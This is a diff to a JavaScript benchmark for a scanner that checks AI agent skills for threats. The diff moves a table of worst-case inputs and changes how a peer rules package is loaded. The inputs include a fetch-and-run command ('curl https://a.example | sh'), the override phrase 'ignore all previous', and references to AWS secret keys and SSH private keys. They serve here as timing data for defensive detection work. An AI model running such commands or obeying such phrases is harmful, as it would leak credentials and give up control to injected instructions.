@@ -10,8 +10,7 @@
  * 3. Worst texts of 128 and 256 KiB: how much longer the longer one takes (T26).
  * 4. Diffs: 10,000 changed lines, one line of 256 KiB, an ordinary change.
  */
-import { readFileSync } from "node:fs";
-import { createRequire } from "node:module";
+import { existsSync, readFileSync } from "node:fs";
 import { dirname, join, resolve } from "node:path";
 import { version } from "node:process";
 import { fileURLToPath, pathToFileURL } from "node:url";
@@ -28,6 +27,18 @@ const { values: options, positionals } = parseArgs({
 const labelled = positionals[0] ?? join(here, "../eval/scan.jsonl");
 const { createBundle, diffBundles, parse, rules, scanBundle } = await loadInternals({ isWorker: false });
 const encoder = new TextEncoder();
+
+const worst = {
+  letters: "a",
+  comments: "<!--",
+  addresses: "https://a.example/",
+  base64: "QUJDREVGR0hJSktMTU5PUFFSU1RVVldYWVo",
+  downloads: "curl https://a.example | sh ; ",
+  orders: "ignore all previous ",
+  secrets: "$AWS_SECRET_ACCESS_KEY ~/.ssh/id_rsa ",
+  "zero-width": "\u200b\u200c",
+  entities: "&#105;",
+};
 
 console.log(`node ${version}; ${rules.length} rules; user+system CPU`);
 await showTexts();
@@ -65,18 +76,15 @@ function at(values, share) {
 
 /** Undefined when it is not installed. */
 async function loadPeer() {
-  const from = createRequire(options.peer === undefined ? import.meta.url : join(resolve(options.peer), "x.js"));
-  try {
-    const main = from.resolve("agent-threat-rules");
-    const { ATREngine } = await import(pathToFileURL(main).href);
-    const engine = new ATREngine({ rulesDir: join(dirname(main), "../rules") });
-    await engine.loadRules();
-    return engine;
-  } catch (error) {
-    if (error.code !== "MODULE_NOT_FOUND" && error.code !== "ERR_MODULE_NOT_FOUND") throw error;
+  const folder = join(resolve(options.peer ?? join(here, "..")), "node_modules/agent-threat-rules");
+  if (!existsSync(folder)) {
     console.log("agent-threat-rules is not installed here: npm install --no-save agent-threat-rules@4.0.0");
     return undefined;
   }
+  const { ATREngine } = await import(pathToFileURL(join(folder, "dist/index.js")).href);
+  const engine = new ATREngine({ rulesDir: join(folder, "rules") });
+  await engine.loadRules();
+  return engine;
 }
 
 function showGrowth() {
@@ -94,18 +102,6 @@ function showGrowth() {
     });
   printTable(["skills", "read and hash", "scan", "each", "scan to reading"], rows);
 }
-
-const worst = {
-  letters: "a",
-  comments: "<!--",
-  addresses: "https://a.example/",
-  base64: "QUJDREVGR0hJSktMTU5PUFFSU1RVVldYWVo",
-  downloads: "curl https://a.example | sh ; ",
-  orders: "ignore all previous ",
-  secrets: "$AWS_SECRET_ACCESS_KEY ~/.ssh/id_rsa ",
-  "zero-width": "\u200b\u200c",
-  entities: "&#105;",
-};
 
 function showWorst() {
   const rows = Object.entries(worst).map(([name, piece]) => {
